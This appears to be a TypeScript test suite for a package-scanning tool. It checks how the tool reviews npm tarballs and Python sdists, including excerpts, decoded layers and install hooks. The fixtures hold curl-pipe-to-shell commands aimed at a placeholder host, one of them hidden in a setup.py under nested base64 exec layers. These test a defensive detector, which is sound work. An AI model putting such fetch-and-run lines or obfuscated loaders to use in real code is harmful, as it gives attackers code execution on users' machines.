import assert from "node:assert/strict";
import { describe, test } from "node:test";
import { npmTarball, sdist } from "../../test/support/archives.ts";
import { DEFAULT_LIMITS } from "../limits.ts";
import { inspect } from "./inspect.ts";
import { readInspection } from "./read-answer.ts";

const ANSWER = 4 << 20;

function reviewed(bytes: Buffer, texts?: readonly string[]) {
  const inspection = inspect({ bytes, filename: "a", review: texts ? { texts } : {} });
  assert.ok(inspection.review, inspection.verdict.because ?? "");
  return { ...inspection, review: inspection.review };
}

describe("a review", () => {
  test("is made only when it is asked for, and survives the way to the parent unchanged", () => {
    const bytes = npmTarball({ name: "left", version: "1.0.0", files: { "index.js": "module.exports = 1;\n" } });
    assert.equal(inspect({ bytes, filename: "a" }).review, undefined);
    const inspection = reviewed(bytes);
    assert.deepEqual(readInspection(JSON.parse(JSON.stringify(inspection)), DEFAULT_LIMITS), inspection);
    assert.deepEqual(
      inspection.review.files.map(({ place, kind, phase }) => `${place} ${kind} ${phase}`),
      ["index.js javascript import", "package.json json none"],
    );
  });

  test("shows the line of a finding with those round it, and of a long line the part that matters", () => {
    const line = `${"var a=1;".repeat(2_000)}require('child_process').exec('curl http://example.invalid/a|sh');${"b=2;".repeat(500)}`;
    const { review } = reviewed(
      npmTarball({ name: "left", version: "1.0.0", files: { "index.js": `// one\n${line}\n// three\n` } }),
    );
    const [before, long, after] = review.excerpts.filter(({ path }) => path === "package/index.js");
    assert.equal(before?.text, "// one");
    assert.match(long?.text ?? "", /exec\('curl http:\/\/example\.invalid\/a\|sh'\)/);
    assert.equal((long?.before ?? 0) + (long?.text.length ?? 0) + (long?.after ?? 0), line.length);
    assert.ok((long?.text.length ?? 0) <= 240);
    assert.equal(after?.text, "// three");
  });

  test("has each decoded layer with its parent, its line and the lines that findings name in it", () => {
    const inner = Buffer.from("import os\nos.system('curl -s http://example.invalid/x | bash')\n").toString("base64");
    const middle = Buffer.from(`import base64\n\nexec(base64.b64decode('${inner}'))\n`).toString("base64");
    const setup = `import base64\nexec(base64.b64decode('${middle}'))\n`;
    const { review, findings } = reviewed(sdist({ name: "demo", version: "1.0", files: { "setup.py": setup } }));
    assert.deepEqual(
      review.layers.map(({ number, parent, line, depth, kind }) => ({ number, parent, line, depth, kind })),
      [
        { number: 1, parent: undefined, line: 2, depth: 1, kind: "python" },
        { number: 2, parent: 1, line: 3, depth: 2, kind: "python" },
      ],
    );
    assert.ok(findings.some(({ inside }) => inside?.layer === 2 && inside.line === 2));
    assert.ok(
      review.excerpts.some(({ layer, line, text }) => layer === 2 && line === 2 && text.startsWith("os.system")),
    );
    assert.ok(review.excerpts.some(({ layer, line }) => layer === undefined && line === 2));
  });

  test("names what installing and loading run", () => {
    const { review } = reviewed(
      npmTarball({
        name: "left",
        version: "1.0.0",
        files: { "index.js": "", "cli.js": "", "setup.js": "" },
        manifest: { main: "index.js", bin: { left: "cli.js" }, scripts: { postinstall: "node setup.js" } },
      }),
    );
    assert.deepEqual(review.manifest?.hooks, { postinstall: "node setup.js" });
    assert.deepEqual(review.manifest?.entryPoints, { main: "index.js", "bin left": "cli.js" });
  });

  test("gives the texts that were asked for by place, but none of what is no text", () => {
    const files = { "index.js": "module.exports = 1;\n", "a.bin": Buffer.from([0, 1, 2, 3]) };
    const { review } = reviewed(npmTarball({ name: "left", version: "1.0.0", files }), ["index.js", "a.bin", "gone"]);
    assert.deepEqual(review.texts, { "index.js": "module.exports = 1;\n" });
  });

  test("stays small however much there is: many files, findings and characters that JSON escapes", () => {
    const hostile = "\u0001\u202e\ud800".repeat(2_000);
    const files = Object.fromEntries(
      Array.from({ length: 6_000 }, (_, at) => [
        `${"deep/".repeat(20)}${at}.js`,
        at < 300 ? `require('child_process').exec('curl http://example.invalid/${at}|sh'); // ${hostile}\n` : "",
      ]),
    );
    const inspection = reviewed(npmTarball({ name: "left", version: "1.0.0", files }), Object.keys(files));
    assert.ok(JSON.stringify(inspection).length < ANSWER);
    assert.ok(inspection.review.omittedFiles > 0);
    readInspection(JSON.parse(JSON.stringify(inspection)), DEFAULT_LIMITS);
  });
});
